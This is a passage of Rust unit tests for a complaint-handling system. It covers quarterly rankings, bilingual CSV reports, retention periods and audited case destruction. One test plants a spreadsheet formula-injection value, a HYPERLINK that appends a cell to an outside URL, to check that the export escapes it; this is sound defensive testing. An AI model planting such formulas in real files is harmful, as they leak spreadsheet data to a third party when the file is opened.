        assert_eq!(r.more, None);
        // Fewer than n, and n = 0.
        assert_eq!(top(counts(&[("a", 1)]), 5).rows.len(), 1);
        assert_eq!(top(counts(&[("a", 1)]), 0), Ranking::default());
    }

    #[test]
    fn quarterly_trend_and_leaders() {
        let cal = WorkingCalendar::china_official();
        let q = quarterly_analysis(&fixture(), 2026, 3, &cal, t("2026-10-20 10:00"), 3);
        assert_eq!((q.year, q.quarter), (2026, 3));
        let trend: Vec<(u32, u32)> = q.months.iter().map(|m| (m.month, m.total.count)).collect();
        assert_eq!(trend, vec![(7, 1), (8, 1), (9, 6)]);
        assert_eq!(q.months[2].overdue, 3);
        assert_eq!(q.total, fig(&[1, 2, 3, 4, 5, 6, 7, 9]));
        // Service attitude 01 02 07; fees 03 05; then a tie of one each at the cut-off of
        // three, both kept, sharing rank 3, in category order: trading/system (04) before
        // account handling (09). Unclassified 06 is not ranked.
        assert_eq!(
            q.top_categories.rows,
            vec![
                (Category::ServiceAttitude, fig(&[1, 2, 7])),
                (Category::Fees, fig(&[3, 5])),
                (Category::TradingSystem, fig(&[4])),
                (Category::AccountHandling, fig(&[9])),
            ]
        );
        let ranks: Vec<usize> = q.top_categories.ranked().map(|(r, ..)| r).collect();
        assert_eq!(ranks, vec![1, 2, 3, 3]);
        assert_eq!(q.top_categories.more, None);
        assert_eq!(
            q.top_departments.rows,
            vec![
                ("运营部".to_string(), fig(&[1, 2, 7, 9])),
                ("财富管理部".to_string(), fig(&[3, 5])),
                ("信息技术部".to_string(), fig(&[4])),
            ]
        );
        assert_eq!(
            q.top_staff.rows,
            vec![
                ("李四".to_string(), fig(&[1, 2, 5, 7])),
                ("王五".to_string(), fig(&[2, 9])),
                ("赵六".to_string(), fig(&[4])),
            ]
        );
        // The fourth quarter holds case 08 only.
        let q4 = quarterly_analysis(&fixture(), 2026, 4, &cal, t("2026-12-31 10:00"), 1);
        assert_eq!(q4.total, fig(&[8]));
        assert_eq!(
            q4.months.iter().map(|m| m.month).collect::<Vec<_>>(),
            vec![10, 11, 12]
        );
        assert_eq!(q4.top_staff, Ranking::default());

        // As CSV: the quarter's figures with their case numbers, as the monthly report's.
        let rows = |lang| -> Vec<Vec<String>> {
            let bytes = quarterly_analysis_csv(&q, lang).unwrap();
            assert!(bytes.starts_with(UTF8_BOM));
            csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(&bytes[3..])
                .records()
                .map(|r| r.unwrap().iter().map(String::from).collect())
                .collect()
        };
        let zh = rows(Language::Zh);
        assert_eq!(zh[0], ["分组", "项目", "数量", "占比", "案件编号"]);
        assert_eq!(zh[1][..3], ["汇总", "受理投诉 2026Q3", "8"]);
        let find = |rows: &[Vec<String>], section: &str, item: &str| {
            rows.iter()
                .find(|r| r[0] == section && r[1] == item)
                .unwrap_or_else(|| panic!("{section} {item}: {rows:?}"))
                .clone()
        };
        assert_eq!(
            find(&zh, "投诉最多的类别", "服务态度"),
            [
                "投诉最多的类别",
                "服务态度",
                "3",
                "37.5%",
                "TS-20260901-A-0001 TS-20260910-A-0002 TS-20260831-A-0007"
            ]
        );
        assert_eq!(find(&zh, "月度趋势", "2026-09")[2..4], ["6", "75.0%"]);
        assert_eq!(
            find(&zh, "月度趋势", "2026-09 超时案件")[2..4],
            ["3", "50.0%"]
        );
        // With the cases behind it, as every other count (QA: its cell was empty).
        let late = find(&zh, "月度趋势", "2026-09 超时案件")[4].clone();
        assert_eq!(late.split(' ').count(), 3, "{late}");
        assert!(late.split(' ').all(|n| n.starts_with("TS-2026")), "{late}");
        assert_eq!(find(&zh, "涉及投诉最多的员工", "王五")[2], "2");
        let en = rows(Language::En);
        assert_eq!(
            find(&en, "Departments with most complaints", "运营部")[2..4],
            ["4", "50.0%"]
        );
        assert_eq!(
            find(&en, "Category by month", "2026-09 Fees and charges")[2],
            "2"
        );
    }

    #[test]
    fn csv_cells_typed_by_staff_never_run_as_formulas() {
        let cal = WorkingCalendar::china_official();
        let mut cases = fixture();
        cases[0].department = Some("=HYPERLINK(\"http://x/?\"&A2)".into());
        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
        let bytes = monthly_report_csv(&r, Language::Zh).unwrap();
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        let cells: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect();
        assert!(cells.iter().all(|c| !c.starts_with('=')), "{cells:?}");
        // In the summary's department rows and in the case's row.
        let quoted = cells
            .iter()
            .filter(|c| c.starts_with("'=HYPERLINK"))
            .count();
        assert!(quoted >= 2, "{cells:?}");
    }

    #[test]
    fn the_lists_cases_as_csv_read_as_the_reports_case_list() {
        let cal = WorkingCalendar::china_official();
        let mut cases = fixture();
        cases[3].department = Some("-1+1".into());
        let now = t("2026-10-20 10:00");
        let bytes = case_list_csv(&cases, &cal, now, Language::Zh).unwrap();
        assert!(bytes.starts_with(UTF8_BOM));
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[3..])
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        assert_eq!(rows.len(), cases.len() + 1);
        assert_eq!(rows[0][0], "案件编号");
        assert_eq!(rows[0][9], "调查时限");
        // Every case in the order given, with its limits as of `now`.
        let numbers: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
        let given: Vec<&str> = cases.iter().map(|c| c.case_no.as_str()).collect();
        assert_eq!(numbers, given);
        let fourth = &rows[4];
        assert_eq!(fourth[0], "TS-20260929-A-0004");
        assert_eq!(fourth[5], "'-1+1");
        assert_eq!(
            (fourth[9].as_str(), fourth[10].as_str()),
            ("已超时", "已超时")
        );
        // The month's report lists the same rows for its cases.
        let r = monthly_report(&cases, 2026, 9, &cal, now);
        let report = monthly_report_csv(&r, Language::Zh).unwrap();
        let report = std::str::from_utf8(&report[3..]).unwrap();
        let line = |text: &str, no: &str| -> String {
            text.lines()
                .find(|l| l.starts_with(no))
                .unwrap()
                .to_string()
        };
        let list = std::str::from_utf8(&bytes[3..]).unwrap();
        assert_eq!(
            line(list, "TS-20260929-A-0004"),
            line(report, "TS-20260929-A-0004")
        );
        let en = case_list_csv(&cases[..1], &cal, now, Language::En).unwrap();
        assert!(std::str::from_utf8(&en[3..])
            .unwrap()
            .starts_with("Case number,Received"));
        // A case whose records were destroyed reads so, not as archived (QA: an auditor read
        // 已归档 and took the records to exist).
        let mut gone = cases[0].clone();
        gone.destroyed = true;
        let bytes = case_list_csv(&[gone], &cal, now, Language::Zh).unwrap();
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert!(row.contains(",已销毁,"), "{row}");
    }

    #[test]
    fn csv_has_a_bom_and_reads_back() {
        let cal = WorkingCalendar::china_official();
        let r = monthly_report(&fixture(), 2026, 9, &cal, t("2026-10-20 10:00"));
        let bytes = monthly_report_csv(&r, Language::Zh).unwrap();
        assert!(bytes.starts_with(UTF8_BOM));
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        assert_eq!(rows[0], vec!["分组", "项目", "数量", "占比", "案件编号"]);
        assert_eq!(rows[1][2], "6");
        let phone = rows
            .iter()
            .find(|r| r[0] == "受理方式" && r[1] == "电话")
            .unwrap();
        assert_eq!(phone[2], "3");
        assert_eq!(phone[3], "50.0%");
        assert_eq!(
            phone[4],
            "TS-20260901-A-0001 TS-20260930-A-0005 TS-20260930-A-0006"
        );
        let late = rows
            .iter()
            .find(|r| r[0] == "3个工作日调查时限" && r[1] == "超时")
            .unwrap();
        assert_eq!((late[2].as_str(), late[3].as_str()), ("3", "50.0%"));
        let due = rows.iter().find(|r| r[0] == "报送").unwrap();
        assert_eq!(due[2], "2026-10-12");
        // The case list: a header and six rows after an empty line (not a line reading `""`).
        let lines: Vec<&str> = text.lines().collect();
        let at = lines
            .iter()
            .position(|l| l.starts_with("案件编号,"))
            .unwrap();
        assert_eq!(lines[at - 1], "");
        assert!(!lines.contains(&"\"\""));
        let header = rows.iter().position(|r| r[0] == "案件编号").unwrap();
        assert_eq!(rows.len() - header - 1, 6);
        let last = &rows[rows.len() - 1];
        assert_eq!(last[0], "TS-20260930-A-0006");
        assert_eq!(last[3], "未分类");
        assert_eq!(last[9], "已超时");

        let en = monthly_report_csv(&r, Language::En).unwrap();
        let en = std::str::from_utf8(&en[3..]).unwrap();
        assert!(en.starts_with("Section,Item,Count,Share,Case numbers"));
        assert!(en.contains("Channel,Phone,3,50.0%"));
        assert!(en.contains("Due at head office by,2026-10-12"));
    }

    #[test]
    fn retention_is_five_years_after_archiving() {
        let mut c = fixture().remove(8);
        assert!(!eligible_for_destruction(&c, d(2040, 1, 1)), "not archived");
        c.archived_at = Some(t("2020-03-31 17:00"));
        assert!(!eligible_for_destruction(&c, d(2025, 3, 31)));
        assert!(eligible_for_destruction(&c, d(2025, 4, 1)));
        c.archived_at = Some(t("2024-02-29 17:00"));
        assert!(!eligible_for_destruction(&c, d(2029, 2, 28)));
        assert!(eligible_for_destruction(&c, d(2029, 3, 1)));
        c.destroyed = true;
        assert!(
            !eligible_for_destruction(&c, d(2040, 1, 1)),
            "already destroyed"
        );
    }

    fn staff_actor(role: Role) -> Actor {
        Actor {
            id: format!("staff:{role:?}"),
            name: format!("{role:?} 某"),
            role,
        }
    }

    #[test]
    fn destroying_cases_purges_them_and_records_who_when_why() {
        let mut old = fixture().remove(8); // 09, archived status
        old.archived_at = Some(t("2020-03-31 17:00"));
        old.complainant.name = "张三".into();
        let mut recent = fixture().remove(0);
        recent.status = Status::Archived;
        recent.archived_at = Some(t("2024-01-31 17:00"));
        let now = t("2025-04-01 09:00");
        let manager = staff_actor(Role::Manager);

        let (purged, log) = destroy_cases(
            std::slice::from_ref(&old),
            &manager,
            now,
            " 保存期满 ",
            "destruction_log:01".into(),
        )
        .unwrap();
        assert_eq!(purged.len(), 1);
        assert!(purged[0].destroyed);
        assert!(purged[0].complainant.name.is_empty() && purged[0].narrative.is_empty());
        assert_eq!(purged[0].case_no, old.case_no);
        let last = purged[0].history.last().unwrap();
        assert_eq!((last.action, last.at), (ActionKind::Destroy, now));
        assert_eq!(log.by.name, manager.name);
        assert_eq!(
            (log.role, log.at, log.why.as_str()),
            (Role::Manager, now, "保存期满")
        );
        assert_eq!(
            log.cases,
            vec![DestroyedCase {
                id: "complaint:09".into(),
                case_no: "TS-20260715-A-0009".into(),
                received_at: t("2026-07-15 10:00"),
                archived_at: Some(t("2020-03-31 17:00")),
            }]
        );
        // The log is a document of its own type and reads back.
        let v = serde_json::to_value(&log).unwrap();
        assert_eq!(v["_id"], "destruction_log:01");
        assert_eq!(v["cases"][0]["case_no"], "TS-20260715-A-0009");
        assert_eq!(serde_json::from_value::<DestructionLog>(v).unwrap(), log);

        // All or none: one case still within its retention period refuses the whole action.
        let both = [old.clone(), recent.clone()];
        assert_eq!(
            destroy_cases(
                &both,
                &manager,
                now,
                "保存期满",
                "destruction_log:02".into()
            ),
            Err(DestructionError::Refused {
                case_no: recent.case_no.clone(),
                error: ComplaintError::NotEligibleForDestruction,
            })
        );
        // Only a manager may destroy; a reason is required; something must be chosen.
        let refused = destroy_cases(
            std::slice::from_ref(&old),
            &staff_actor(Role::Supervisor),
            now,
            "保存期满",
            "destruction_log:03".into(),
        )
        .unwrap_err();
        assert!(matches!(
            refused,
            DestructionError::Refused {
                error: ComplaintError::RoleNotAllowed { .. },
                ..
            }
        ));
        assert!(!refused.zh().is_empty() && refused.en().contains(&old.case_no));
        assert!(destroy_cases(
            std::slice::from_ref(&old),
            &manager,
            now,
            "  ",
            "destruction_log:04".into()
        )
        .is_err());
        assert_eq!(
            destroy_cases(&[], &manager, now, "保存期满", "destruction_log:05".into()),
            Err(DestructionError::NothingChosen)
        );
        // A destroyed case cannot be destroyed twice.
        assert!(
            destroy_cases(&purged, &manager, now, "again", "destruction_log:06".into()).is_err()
        );
    }
}
